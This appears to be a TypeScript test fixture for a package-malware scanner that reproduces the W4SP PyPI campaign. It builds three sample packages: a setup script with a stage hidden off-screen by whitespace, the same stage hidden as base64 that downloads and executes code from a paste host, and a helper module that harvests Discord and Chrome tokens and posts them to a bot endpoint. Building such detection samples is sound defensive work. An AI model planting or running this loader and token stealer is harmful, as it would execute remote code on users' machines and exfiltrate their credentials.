import { base64, type Campaign, sdist, wheel } from './kit.ts';

const FAR = ' '.repeat(320);
const STAGE = `from tempfile import NamedTemporaryFile as _ffile
from sys import executable as _eexecutable
from os import system as _ssystem
_ttmp = _ffile(delete=False)
_ttmp.write(b"""from urllib.request import urlopen as _uurlopen;exec(_uurlopen('https://paste.weir.test/raw/abc').read())""")
_ttmp.close()
try: _ssystem(f"start {_eexecutable.replace('.exe', 'w.exe')} {_ttmp.name}")
except: pass
`;

export const campaign: Campaign = {
  id: 'pypi-w4sp',
  row: 'W4SP and clones 2022+: off-screen code, a temporary file, a paste site',
  variants: [
    {
      concealment: 'plain',
      files: sdist(
        `import os;${FAR};${STAGE.split('\n')[0]}\n${STAGE}from setuptools import setup\nsetup(name='campaign-sample')\n`,
      ),
    },
    {
      concealment: 'obfuscated',
      files: wheel(
        `import sys${FAR};__import__('builtins').exec(__import__('builtins').compile(__import__('base64').b64decode("${base64(STAGE)}"),'<string>','exec'))\n`,
      ),
    },
    {
      concealment: 'moved',
      files: wheel('from . import helpers\n', {
        'campaign_sample/helpers.py': `import os, re, requests
def tokens():
    found = []
    for folder in (os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb', os.getenv('LOCALAPPDATA') + '\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Local Storage\\\\leveldb'):
        for name in os.listdir(folder):
            found += re.findall(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}', open(folder + '\\\\' + name, errors='ignore').read())
    return found
requests.post('https://messenger.weir.test/bot1234567:AbCdEfGhIjKlMnOpQrStUvWxYz012345678/sendMessage', json={'content': tokens()})
`,
      }),
    },
  ],
};
